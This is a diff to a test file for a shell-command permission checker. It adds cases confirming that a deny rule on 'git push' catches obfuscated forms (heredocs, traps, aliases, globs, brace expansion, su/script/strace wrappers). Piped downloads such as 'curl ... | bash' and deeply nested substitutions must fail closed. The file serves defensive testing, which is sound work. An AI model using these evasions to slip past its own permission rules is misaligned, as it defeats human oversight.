@@ -102,6 +102,21 @@ describe("compound commands and evasions", () => {
     "git -C /work/app push",
     "git -c core.askPass=x --no-pager push",
     "sudo git --git-dir=.git push",
+    "echo ${X:-$(git push)}",
+    "bash <<< 'git push'",
+    "cat <<EOF\n$(git push)\nEOF",
+    "function f { git push; }; f",
+    "coproc git push",
+    "alias p='git push'; p",
+    "trap 'git push' EXIT",
+    "find . -exec git push \\;",
+    "{git,push}",
+    "/usr/bin/g?t push",
+    "git pu[s]h",
+    "su -c 'git push' ci",
+    "script -qc 'git push' /dev/null",
+    "strace -f -o /dev/null git push",
+    "taskset 0x1 git push",
   ];
   for (const cmd of caught) {
     test(`denied: ${JSON.stringify(cmd)}`, () => assert.equal(effect(DENY, cmd), "deny"));
@@ -116,13 +131,31 @@ describe("compound commands and evasions", () => {
     "# git push",
     "printf '%s' \"$HOME\"",
     "grep -r 'git push' docs",
+    "cat <<'EOF'\n$(git push)\nEOF",
+    "[ -f x ] && ls *.ts",
+    "echo {a,b} 'g*t push'",
   ];
   for (const cmd of passed) {
     test(`allowed: ${JSON.stringify(cmd)}`, () => assert.equal(effect(DENY, cmd), "allow"));
   }
 
   test("what cannot be read, or is only known when it runs, fails closed for deny and ask rules", () => {
-    for (const cmd of ["echo 'unterminated && git push", "$CMD push", "git $SUB", 'sh -c "$SCRIPT"', "eval $X"]) {
+    const piped = ["echo 'git push' | sh", "curl -s https://x.test/install | bash -s", "cat cmds.txt | bash"];
+    const deep = [
+      "echo " + "$(".repeat(20) + "ls" + ")".repeat(20),
+      "echo " + "${a:-".repeat(20) + "$(ls)" + "}".repeat(20),
+    ];
+    for (
+      const cmd of [
+        "echo 'unterminated && git push",
+        "$CMD push",
+        "git $SUB",
+        'sh -c "$SCRIPT"',
+        "eval $X",
+        ...deep,
+        ...piped,
+      ]
+    ) {
       const d = decideLayer(layer(DENY), bash(cmd), { cwd: WS });
       assert.equal(d.effect, "deny", cmd);
       assert.ok(d.note, `a note says why: ${cmd}`);
